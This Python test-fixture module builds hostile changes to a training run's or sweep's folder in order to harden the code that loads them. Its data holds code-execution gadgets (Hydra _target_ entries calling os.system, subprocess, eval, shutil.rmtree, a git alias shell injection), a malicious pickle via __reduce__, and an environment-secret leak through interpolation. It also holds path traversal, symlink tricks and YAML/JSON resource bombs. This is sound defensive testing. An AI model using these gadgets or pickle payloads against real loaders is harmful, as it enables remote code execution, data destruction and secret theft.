"""Changes to the folder of a run or sweep that an attacker could make, or an accident.

A case is a name and a function that changes a copy of the victim's folder. `CANARY` is a file that must never appear,
`SENTINEL` a folder that must not change, and `PORT` stands for a server that must hear nothing.
"""

import io
import json
import os
import pickle
import shutil
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import torch
import yaml

Change = Callable[[Path], None]
Cases = Iterator[tuple[str, Change]]

CANARY = "../canary"
SENTINEL = "../sentinel"
ADDRESS = "http://127.0.0.1:PORT/admin/delete?x=1"
SECRET = "LAB_SECRET"  # an environment variable whose value must not be shown

# What a config could call, if its `_target_`s were called.
GADGETS: dict[str, dict[str, Any]] = {
    "git": {"_target_": "src.run.provenance.git", "_args_": ["-c", f"alias.x=!touch {CANARY}", "x"]},
    "system": {"_target_": "os.system", "_args_": [f"touch {CANARY}"]},
    "aliased system": {"_target_": "logging.os.system", "_args_": [f"touch {CANARY}"]},
    "popen": {"_target_": "subprocess.Popen", "_args_": [["touch", CANARY]]},
    "eval": {"_target_": "builtins.eval", "_args_": [f"open('{CANARY}', 'w')"]},
    "exec": {"_target_": "builtins.exec", "_args_": [f"open('{CANARY}', 'w')"]},
    "open": {"_target_": "builtins.open", "_args_": [CANARY, "w"]},
    "touch": {"_target_": "pathlib.Path.touch", "_args_": [{"_target_": "pathlib.Path", "_args_": [CANARY]}]},
    "rmtree": {"_target_": "shutil.rmtree", "_args_": [SENTINEL]},
    "copy": {"_target_": "shutil.copy", "_args_": ["/etc/hostname", CANARY]},
    "urlopen": {"_target_": "urllib.request.urlopen", "_args_": [ADDRESS]},
    "torch.load": {"_target_": "torch.load", "_args_": ["evil.pickle"], "weights_only": False},
    "joblib": {"_target_": "joblib.load", "_args_": ["evil.pickle"]},
    "numpy": {"_target_": "numpy.load", "_args_": ["evil.pickle"], "allow_pickle": True},
    "run_path": {"_target_": "runpy.run_path", "_args_": ["evil.py"]},
    "method": {"_target_": "hydra.utils.get_method", "path": "os.system"},
    "partial": {"_target_": "os.system", "_partial_": True, "_args_": [f"touch {CANARY}"]},
}
CONFIG, METRICS, PLAN = ".hydra/config.yaml", "metrics.json", "sweep.json"
OF_RUN = (
    *(CONFIG, ".hydra/overrides.yaml", ".hydra/hydra.yaml", ".hydra/starts.json", METRICS, "metrics.csv"),
    *("checkpoints/best.ckpt", "checkpoints/last.ckpt", "checkpoints/previous.ckpt", "train.log", ".hydra/lock"),
)
FOLDERS_OF_RUN = (".hydra", "checkpoints", "evaluation", "evaluation/test", "figures", "predictions")
ODD_JSON = {
    **{
        "empty": "",
        "null": "null",
        "number": "5",
        "text": '"x"',
        "list": "[]",
        "object": "{}",
        "half": '{"status": "c',
    },
    **{"brackets": "[" * 100_000, "digits": '{"seed": ' + "9" * 5000 + "}", "nan": '{"val/acc": NaN}'},
    **{"bytes": "\udcff\udcfe\udc80", "control": '{"status": "failed", "reason": "\\u001b[31m\\u0007x"}'},
    **{"long": json.dumps({"status": "failed", "reason": "x" * 100_000}), "large": " " * (2 << 20) + "{}"},
    **{"a list of overrides": '{"status": "failed", "reason": "x", "overrides": 5}', "bare": '{"status": "completed"}'},
}
ODD_YAML = {
    **{
        "empty": "",
        "null": "null",
        "number": "5",
        "list": "- 1",
        "half": "a: [",
        "tag": "a: !!python/name:os.system x",
    },
    **{"aliases": "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]\n", "brackets": "[" * 100_000},
    **{
        "dashes": "- " * 50_000 + "x",
        "bytes": "\udcff\udcfe",
        "digits": "seed: " + "9" * 5000,
        "large": " " * (2 << 20),
    },
}


def write(path: Path, content: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    path.write_bytes(content.encode(errors="surrogateescape"))


def with_config(change: Callable[[dict[str, Any]], None], run: Path) -> None:
    settings = yaml.safe_load((run / CONFIG).read_text())
    change(settings)
    write(run / CONFIG, yaml.safe_dump(settings, sort_keys=False))
    (run / "evil.pickle").write_bytes(pickle.dumps(Evil()))
    write(run / "evil.py", f"open({CANARY!r}, 'w')")


class Evil:
    def __reduce__(self) -> Any:
        return os.system, (f"touch {CANARY}",)


def gadgets() -> Cases:
    """A call in every place of a config."""
    places: dict[str, Callable[[dict[str, Any], Any], Any]] = {
        "model": lambda settings, gadget: settings.update(model=gadget),
        "model.x": lambda settings, gadget: settings["model"].update(x=gadget),
        "model.x[]": lambda settings, gadget: settings["model"].update(x=[gadget]),
        "model.x[][]": lambda settings, gadget: settings["model"].update(x=[[gadget]]),
        "model._args_": lambda settings, gadget: settings["model"].update(_args_=[gadget]),
        "model.loss": lambda settings, gadget: settings["model"].update(loss=gadget),
        "model.loss[]": lambda settings, gadget: settings["model"].update(loss=[gadget]),
        "model._target_": lambda settings, gadget: settings["model"].update(_target_=gadget["_target_"]),
        "an interpolation": lambda settings, gadget: settings.update(
            x=[gadget], model=settings["model"] | {"x": "${x}"}
        ),
        "data": lambda settings, gadget: settings.update(data=gadget),
        "data.x[]": lambda settings, gadget: settings["data"].update(x=[gadget]),
        "data.mean[]": lambda settings, gadget: settings["data"].update(mean=[gadget]),
        "data.augment": lambda settings, gadget: settings["data"].update(augment=gadget),
        "data.classes[]": lambda settings, gadget: settings["data"].update(classes=[gadget, gadget]),
        "trainer": lambda settings, gadget: settings.update(trainer=gadget),
        "trainer.callbacks[]": lambda settings, gadget: settings["trainer"].update(callbacks=[gadget]),
        "trainer.precision": lambda settings, gadget: settings["trainer"].update(precision=gadget),
        "pruner": lambda settings, gadget: settings.update(pruner=gadget),
        "threads": lambda settings, gadget: settings.update(threads=gadget),
    }
    whole = {"model.x[]", "model.loss", "data.x[]", "data", "an interpolation"}  # the others get a few gadgets
    for place, put in places.items():
        for name, gadget in list(GADGETS.items())[:: 1 if place in whole else 6]:
            yield f"{name} in {place}", partial(with_config, partial(lambda put, g, s: put(s, g), put, gadget))


def foreign_values() -> Cases:
    """Settings of a config that lead out of its folder, show a secret, or need too much."""
    secret = "${oc.env:" + SECRET + "}"
    values: dict[str, Any] = {
        "data.root": [secret, "/proc/self", SENTINEL, "~root", 5, None, "x" * 5000, "\x1b[31m"],
        "data.sources": [[ADDRESS], [f"{ADDRESS}&key={secret}"], [SENTINEL], [], [{}], "x", None, ["ftp://x"]],
        "data.cache": [SENTINEL, "/proc", secret, {}],
        "data.size": [0, -1, 10**9, "28", None, 1.5],
        "data.train_per_class": [10**12, 10**30, -1, "x"],
        "data.num_classes": [0, 10**9, None],
        "data.batch_size": [0, 10**30, [], secret],
        "data.resize": [10**9, -1, "x"],
        "data.mean": [{}, [[]], ["x"], [float("nan")], 5],
        "data.val_size": [secret, {}, 10**30],
        "model.hidden_sizes": [[10**6, 10**6], ["x"], {}, []],
        "model.loss": [secret, "../../data/cifar10", 5],
        "trainer.accelerator": [secret, "tpu", 5, []],
        "trainer.precision": ["transformer-engine", 5, []],
        "trainer.devices": [16, [], 10**30],
        "trainer.limit_test_batches": ["x", -1, 10**30],
        "threads": [10**6, -1, "x", secret],
        "matmul_precision": ["x", secret, 5],
    }
    for key, several in values.items():
        for value in several:
            part, _, name = key.rpartition(".")

            def change(settings: dict[str, Any], part: str = part, name: str = name, value: Any = value) -> None:
                (settings[part] if part else settings)[name] = value

            yield f"{key}={str(value)[:40]!r}", partial(with_config, change)
    for part in ("data", "model", "trainer", "threads", "data.augment", "data.batch_size"):
        yield f"no {part}", partial(with_config, partial(without, part))


def without(key: str, settings: dict[str, Any]) -> None:
    *parents, name = key.split(".")
    for parent in parents:
        settings = settings[parent]
    del settings[name]


def odd_files() -> Cases:
    """Files of other types, and whatever is not a regular file."""
    for name in OF_RUN:
        path_of = partial(lambda name, run: run / name, name)
        kinds: dict[str, Callable[[Path], Any]] = {
            "a pipe": os.mkfifo,
            "a device": lambda path: path.symlink_to("/dev/zero"),
            "a loop": lambda path: path.symlink_to(path),
            "a link": lambda path: path.symlink_to(Path(SENTINEL, "file").absolute()),
            "a folder": lambda path: path.mkdir(),
            "sparse": lambda path: write_sparse(path),
            "gone": lambda path: None,
        }
        for kind, make in kinds.items():
            yield f"{name} is {kind}", partial(lambda path_of, make, run: replaced(path_of(run), make), path_of, make)
    for name, contents in (
        *[(METRICS, ODD_JSON), (".hydra/starts.json", ODD_JSON), ("metrics.csv", ODD_JSON)],
        *[(CONFIG, ODD_YAML), (".hydra/overrides.yaml", ODD_YAML), (".hydra/hydra.yaml", ODD_YAML)],
    ):
        for kind, content in contents.items():
            yield f"{name}: {kind}", partial(lambda name, content, run: write(run / name, content), name, content)
    for name in FOLDERS_OF_RUN:
        yield f"{name}/ is a link", partial(lambda name, run: linked_folder(run / name), name)


def replaced(path: Path, make: Callable[[Path], Any]) -> None:
    path.unlink(missing_ok=True)
    make(path)


def write_sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(10 << 30)


def linked_folder(path: Path) -> None:
    if path.is_dir():
        shutil.rmtree(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(Path(SENTINEL).absolute())


def checkpoints() -> Cases:
    """Checkpoints of other types, with other values, or that name other files."""
    values: dict[str, Any] = {
        **{"None": None, "a list": [], "a number": 5, "a tensor": torch.zeros(2), "empty": {}, "text": "x"},
        "a pickle": Evil(),
    }
    for kind, value in values.items():
        yield f"a checkpoint is {kind}", partial(saved_checkpoint, partial(lambda value, found: value, value))
    wrong: dict[str, Any] = {
        **{"epoch": "x", "global_step": -5, "pytorch-lightning_version": "0.0.1", "loops": {}, "callbacks": {}},
        **{"optimizer_states": [], "lr_schedulers": [{}, {}], "history": {}, "state_dict": {}, "code": {}},
        "hyper_parameters": {"_target_": "os.system"},
    }
    for key, value in wrong.items():
        yield f"{key} is {value!r}", partial(saved_checkpoint, partial(lambda k, v, found: found | {k: v}, key, value))
        if key != "hyper_parameters":
            yield f"no {key}", partial(saved_checkpoint, partial(lambda key, f: {k: f[k] for k in f if k != key}, key))
    tensors: dict[str, torch.Tensor] = {
        **{"sparse": torch.zeros(10, 784).to_sparse(), "meta": torch.zeros(10, 784, device="meta")},
        **{"small": torch.zeros(1), "integer": torch.zeros(10, 784, dtype=torch.int64)},
        "expanded": torch.zeros(1).expand(10, 784),
    }
    for kind, tensor in tensors.items():
        yield f"a {kind} weight", partial(saved_checkpoint, partial(with_weight, tensor))
    for name in (SENTINEL, f"local://{SENTINEL}/file", "..", "/"):
        yield f"the best checkpoint is {name}", partial(saved_checkpoint, partial(with_best_path, name))
    for cut in (0, 1, 1000):
        yield f"cut to {cut} bytes", partial(cut_checkpoints, cut)


def saved_checkpoint(change: Callable[[dict[str, Any]], Any], run: Path) -> None:
    for path in (run / "checkpoints").iterdir():
        content = io.BytesIO()
        torch.save(change(torch.load(path, weights_only=True)), content)
        path.unlink()
        path.write_bytes(content.getvalue())


def with_weight(tensor: torch.Tensor, found: dict[str, Any]) -> dict[str, Any]:
    return found | {"state_dict": dict.fromkeys(found["state_dict"], tensor)}


def with_best_path(name: str, found: dict[str, Any]) -> dict[str, Any]:
    for key, state in found["callbacks"].items():
        if key.startswith("KeepBest"):
            state |= dict.fromkeys(("best_model_path", "kth_best_model_path", "last_model_path", "dirpath"), name)
            state |= {"best_k_models": {name: torch.tensor(0.0)}, "best_model_score": torch.tensor(0.0)}
    return found


def cut_checkpoints(size: int, run: Path) -> None:
    for path in (run / "checkpoints").iterdir():
        content = path.read_bytes()[:size]
        path.unlink()
        path.write_bytes(content)


def plans() -> Cases:
    """Changes of sweep.json, and of the files in a sweep's folder."""
    gadget = {"_target_": "os.system", "_args_": [f"touch {CANARY}"]}
    folders = ["../sentinel", "/tmp/lab-escape", "..", ".", "", "000_a/b", "x", 5, None, "000_" + "x" * 300]
    changes: dict[str, Callable[[dict[str, Any]], Any]] = {
        **{
            f"a job in {str(name)[:20]!r}": partial(lambda name, plan: of_jobs(plan, folder=name), name)
            for name in folders
        },
        "overrides of another job": lambda plan: of_jobs(plan, overrides=["seed=7"]),
        "a call in overrides": lambda plan: of_jobs(plan, overrides=[f"+model.x={json.dumps(gadget)}"]),
        "a folder in overrides": lambda plan: of_jobs(plan, overrides=[f"hydra.run.dir={SENTINEL}"]),
        "logging in overrides": lambda plan: of_jobs(plan, overrides=["hydra/job_logging=disabled"]),
        "overrides are 5": lambda plan: of_jobs(plan, overrides=5),
        "settings are a list": lambda plan: of_jobs(plan, settings=[]),
        "control characters": lambda plan: of_jobs(plan, overrides=["seed=\x1b[31m"]),
        "a job more": lambda plan: plan["jobs"].append({"folder": "../x", "overrides": [], "settings": {}}),
        "launched elsewhere": lambda plan: plan.update(launched=["../sentinel"]),
        **{
            f"no {key}": partial(lambda key, plan: plan.pop(key), key) for key in ("jobs", "swept", "settings", "space")
        },
        **{
            f"{key} is 5": partial(lambda key, plan: plan.update({key: 5}), key)
            for key in ("jobs", "swept", "settings")
        },
        "another space": lambda plan: plan.update(space={"seed": "range(10**9)"}),
    }
    for name, change in changes.items():
        yield name, partial(with_plan, change)
    for kind, content in ODD_JSON.items():
        yield f"sweep.json: {kind}", partial(lambda content, sweep: write(sweep / PLAN, content), content)
    for name in (PLAN, ".lock", "results.csv", "results.md", "multirun.yaml"):
        for kind, make in {"a pipe": os.mkfifo, "sparse": write_sparse, "a folder": Path.mkdir}.items():
            yield f"{name} is {kind}", partial(lambda n, make, sweep: replaced(sweep / n, make), name, make)
        yield (
            f"{name} is a link",
            partial(
                lambda n, sweep: replaced(sweep / n, lambda path: path.symlink_to(Path(SENTINEL, "file").absolute())),
                name,
            ),
        )


def of_jobs(plan: dict[str, Any], **values: Any) -> None:
    for job in plan["jobs"]:
        job.update(values)


def with_plan(change: Callable[[dict[str, Any]], Any], sweep: Path) -> None:
    plan = json.loads((sweep / PLAN).read_text())
    change(plan)
    write(sweep / PLAN, json.dumps(plan))
